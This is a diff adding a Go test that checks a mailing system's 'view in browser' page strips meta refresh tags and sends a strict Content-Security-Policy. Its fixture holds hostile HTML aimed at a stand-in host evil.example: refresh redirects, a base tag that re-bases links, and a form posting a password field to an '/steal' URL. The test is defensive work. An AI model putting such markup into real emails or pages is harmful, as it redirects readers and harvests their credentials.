@@ -700,6 +700,32 @@ func TestViewInBrowser(t *testing.T) {
 	}
 }
 
+// The view page cannot redirect, post a form off-site or re-base links:
+// meta refresh is removed, and the CSP forbids forms and <base>.
+func TestViewInBrowserNeutralised(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOpt{})
+	l := e.list("a", "single")
+	cid := e.contact("anna@example.org", "Anna", nil, l)
+	doc := `<!DOCTYPE html><html><head><META HTTP-EQUIV="Refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="1;https://evil.example/"/>
+<base href="https://evil.example/"><meta charset="utf-8"><title>T</title></head><body><p>Hi</p>
+<form action="https://evil.example/steal" method="post"><input name="password"></form><script>var s = "<meta http-equiv=refresh>";</script></body></html>`
+	camp := e.campaign("regular", doc, []int64{l}, cid)
+	r := e.get(e.mint(rtoken.View, cid, camp))
+	if r.code != 200 || !strings.Contains(r.body, "<p>Hi</p>") || !strings.Contains(r.body, `<meta charset="utf-8">`) {
+		t.Fatalf("view: %d\n%s", r.code, r.body)
+	}
+	if low := strings.ToLower(r.body); strings.Contains(low, `http-equiv="refresh"`) || strings.Contains(low, "http-equiv=refresh content") {
+		t.Errorf("meta refresh served:\n%s", r.body)
+	}
+	csp := r.hdr.Get("Content-Security-Policy")
+	for _, want := range []string{"form-action 'none'", "base-uri 'none'", "sandbox", "default-src 'none'"} {
+		if !strings.Contains(csp, want) {
+			t.Errorf("view CSP %q lacks %s", csp, want)
+		}
+	}
+}
+
 // The forms that send mail are capped per client address.
 func TestFormRateLimit(t *testing.T) {
 	t.Parallel()
